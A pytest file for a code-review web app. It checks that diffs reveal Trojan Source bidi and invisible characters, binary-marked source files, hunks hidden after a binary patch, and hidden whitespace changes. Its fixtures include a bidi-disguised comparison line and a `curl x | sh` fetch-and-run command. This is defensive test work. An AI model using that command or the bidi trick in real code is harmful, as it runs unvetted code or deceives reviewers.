"""What the review page must not let pass unseen: invisible and bidirectional characters, text
sent as a binary hunk, changes hidden by "hide whitespace"."""

import html as htmllib
import re

import pytest
from django.template.loader import render_to_string
from django.urls import reverse

from review.diffs import diff_view
from tests.factories import PASSWORD, campaign_make, git, patch_for, run_make, variant_make

pytestmark = pytest.mark.shapes("embedded", "production")

# "Trojan Source": the line reads as a comment after an `if`, yet runs as a string comparison.
TROJAN = 'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066":'


def _shown(html: str) -> str:
    """The text a reader sees (tags and attributes dropped)."""
    return htmllib.unescape(re.sub(r"<[^>]*>", "", html))


def test_bidi_and_invisible_characters_are_shown_and_flagged():
    patch = patch_for("auth\u200b.py", "if ok:", TROJAN)
    (view,) = diff_view(patch)
    assert view.invisible
    html = render_to_string("review/diff.html#diff-viewer", {"files": diff_view(patch)})
    for char in ("\u202e", "\u2066", "\u2069", "\u200b"):
        assert char not in _shown(html)
    assert "⟨U+202E⟩" in html and "⟨U+2066⟩" in html and "⟨U+200B⟩" in html  # name, line
    assert 'data-testid="invisible-chars"' in html and 'data-testid="diff-flagged"' in html


def test_text_marked_binary_is_shown_decoded_and_masked(tmp_path):
    """A repository's `.gitattributes` (`*.py binary`) made a new source file an opaque
    base85 hunk: the page said "binary file"."""
    git(tmp_path, "init", "-q")
    (tmp_path / ".gitattributes").write_text("*.py binary\n")
    git(tmp_path, "add", "-A")
    git(tmp_path, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base")
    (tmp_path / "run.py").write_text('import os\nos.system("curl x | sh")\nKEY = "s3cr3t"\n')
    git(tmp_path, "add", "-A")
    patch = git(tmp_path, "diff", "--cached", "--binary", "HEAD")
    assert b"GIT binary patch" in patch and b"curl" not in patch

    views = diff_view(patch, mask=lambda text: text.replace("s3cr3t", "******"))
    (view,) = views
    assert view.binary_text and view.added == 3
    html = render_to_string("review/diff.html#diff-viewer", {"files": views})
    assert 'os.system("curl x | sh")' in _shown(html) and "s3cr3t" not in html
    assert 'KEY = "******"' in _shown(html)
    assert "marked binary by the repository's attributes, shown decoded" in _shown(html)


def test_a_text_patch_hidden_after_a_binary_one_is_shown():
    """After `GIT binary patch` the page ignored every hunk until the next `diff --git`; git
    apply reads a following `---`/`+++` pair as another file's patch and applies it."""
    binary = (
        b"diff --git a/data.bin b/data.bin\n"
        b"index 587be6b..2e1e6f5 100644\n"
        b"GIT binary patch\nliteral 3\nKcmb<q-~s>vcmRX|\n\nliteral 2\nJcmb>60ssK~0D}Mk\n\n"
    )
    patch = binary + b"--- a/calc.py\n+++ b/calc.py\n@@ -1 +1 @@\n-a\n+import os\n"
    views = diff_view(patch)
    assert [(v.path, v.added) for v in views] == [("data.bin", 0), ("calc.py", 1)]
    html = render_to_string("review/diff.html#diff-viewer", {"files": views})
    assert 'data-testid="diff-unreadable"' in html and "+import os" in _shown(html)


def test_hidden_whitespace_changes_are_announced_beside_approve(client, manager, reviewer):
    campaign = campaign_make(owner=manager)
    run = run_make(campaign=campaign)
    variant = variant_make(run=run, name="a", patch=patch_for("a.py", "x = 1", "x  =  1"))
    assert client.login(username=reviewer.username, password=PASSWORD)
    url = reverse("review-compare", args=[campaign.pk, run.pk])
    shown = client.get(url, {"variant": variant.pk}).content.decode()
    hidden = client.get(url, {"variant": variant.pk, "ws": "0"}).content.decode()
    assert 'data-testid="whitespace-hidden"' not in shown
    assert 'data-testid="whitespace-hidden"' in hidden and 'data-testid="approve"' in hidden
